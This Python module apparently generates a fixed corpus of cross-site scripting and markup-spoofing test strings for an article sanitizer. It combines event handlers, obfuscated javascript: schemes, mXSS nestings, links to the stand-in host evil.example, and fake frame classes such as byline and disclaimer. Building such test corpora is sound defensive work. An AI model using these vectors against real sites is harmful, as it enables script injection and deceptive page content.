"""Strings with which somebody might try to run a script, fetch something, or change the page around an article.

A grammar: element x handler x scheme x encoding x nesting x mutation, always in the same order. Whoever runs one sets
`window.attacked`, or asks `evil.example` for something; an element of an attack that is on a page has the class
`attack`, or a class or an id of the page's frame.
"""

from collections.abc import Iterator
from itertools import chain, cycle, product

_RUN = "window.attacked=1"
_HOST = "evil.example"

_ELEMENTS = (
    "img audio video source track iframe frame object embed applet svg math body html head title style link meta base "
    "form input button select textarea keygen isindex marquee details dialog template slot portal a area map image "
    "picture canvas "
    "script noscript noembed noframes xmp plaintext listing table td th blockquote q ins del code kbd pre p div "
    "span b i u s sub sup custom-element"
).split()
_HANDLERS = (
    "onerror onload onclick onfocus onmouseover ontoggle onbegin onanimationstart ontransitionend onpointerrawupdate "
    "onscrollend onbeforematch onpageshow oncopy ONERROR onError"
).split()
_SCHEMES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java&Tab;script:{_RUN}",
    f"java&NewLine;script:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"&#x6A;avascript&#x3A;{_RUN}",
    f"\x01javascript:{_RUN}",
    f" javascript:{_RUN}",
    f"vbscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==",
    f"blob:https://{_HOST}/x",
    f"//{_HOST}/x",
    f"\\\\{_HOST}/x",
    f"/\\{_HOST}/x",
    f"ht&Tab;tps://{_HOST}/x",
    f"https:{_HOST}/x",
    f"HTTPS://{_HOST}/x",
    f"ftp://{_HOST}/x",
)
_ADDRESSES = (
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "cite",
    "poster",
    "background",
    "srcset",
    "ping",
    "srcdoc",
)
_NESTINGS = (
    "{}",
    "<code>{}</code>",
    "<kbd>{}</kbd>",
    "<pre>{}</pre>",
    "<script>{}</script>",
    "<style>{}</style>",
    "<title>{}</title>",
    "<textarea>{}</textarea>",
    "<noscript>{}</noscript>",
    "<svg>{}</svg>",
    "<svg><style>{}</style></svg>",
    "<svg><foreignObject>{}</foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style>{}</mglyph></table></mtext></math>",
    "<template>{}</template>",
    "<details open><summary>{}</summary></details>",
    "<table><tr><td>{}</td></tr></table>",
    "<a title='{}'>x</a>",
    "<!--{}-->",
    "<!-->{}",
    "<![CDATA[{}]]>",
    "`{}`",
    "**{}**",
    "[{}](https://example.org/)",
    "![{}](bild.svg)",
    "> {}",
    "- {}",
    "| a |\n|---|\n| {} |",
    "## {}",
    "/// details | {}\nx\n///",
)
_MUTATIONS = (
    lambda text: text,
    str.upper,
    lambda text: text.replace("<", "<\x00", 1),
    lambda text: text.replace(" ", "/", 1),
    lambda text: text.replace(" ", "\n", 1),
    lambda text: text.replace(">", "", 1),
    lambda text: text.replace('"', "'"),
    lambda text: text.replace('"', ""),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "\uff1c"),
    lambda text: "</p>" + text,
    lambda text: text.replace("=", "&#61;", 1),
    lambda text: text + text[::-1],
)
_COVERING = (
    '<code class="{0}">attack</code>',
    "<p class='{0}'>attack</p>",
    '<a class="{0}" href="https://evil.example/">attack</a>',
    "*attack*{{: .{0} }}",
    "## attack {{: #{0} }}",
    "attack\n{{: .{0} #{0} }}",
    "```{0}\nattack\n```",
    '```{{.{0} title="attack"}}\nattack\n```',
    "`attack`{{: .{0} }}",
    "[attack](https://evil.example/){{: .{0} target=_top }}",
    '<span id="{0}">attack</span>',
    '<p style="position:fixed;inset:0;z-index:99">{0}</p>',
)
FRAME_CLASSES = (
    "tones notice disclaimer masthead masthead__name card__headline share search skip lightbox author-card byline "
    "kicker standfirst sources corrections related footer problems label label--held"
).split()
_MARKDOWN = (
    "[attack]({})",
    "![attack]({})",
    "<{}>",
    "[attack]: {}\n\n[attack]",
    "[attack](<{}>)",
    "[![attack]({})]({})",
    '[attack]({} "title")',
    "[^1]\n\n[^1]: [attack]({})",
)


def attacks() -> Iterator[str]:
    """Yield the attacks, more than two thousand, always the same, none twice."""
    yield from dict.fromkeys(chain(_of_elements(), _of_addresses(), _of_frames(), _of_nestings()))


def _of_elements() -> Iterator[str]:
    nestings, mutations = cycle(_NESTINGS), cycle(_MUTATIONS)
    for element, handler in product(_ELEMENTS, _HANDLERS):
        attack = f'<{element} class="attack" src="x" {handler}="{_RUN}" autofocus open>'
        yield _nested(next(nestings), next(mutations)(attack))


def _of_addresses() -> Iterator[str]:
    nestings = cycle(_NESTINGS)
    for scheme, attribute, element in product(_SCHEMES, _ADDRESSES, ("a", "img", "iframe")):
        yield _nested(next(nestings), f'<{element} class="attack" {attribute}="{scheme}">x</{element}>')
    for scheme, notation in product(_SCHEMES, _MARKDOWN):
        yield notation.replace("{}", scheme)


def _of_frames() -> Iterator[str]:
    for name, notation in product(FRAME_CLASSES, _COVERING):
        yield notation.format(name)


def _of_nestings() -> Iterator[str]:
    for nesting, mutation in product(_NESTINGS, _MUTATIONS):
        yield _nested(nesting, mutation(f'<img class="attack" src="x" onerror="{_RUN}">'))
        yield _nested(nesting, mutation(f"<script>{_RUN}</script>"))


def _nested(nesting: str, attack: str) -> str:
    return nesting.replace("{}", attack)
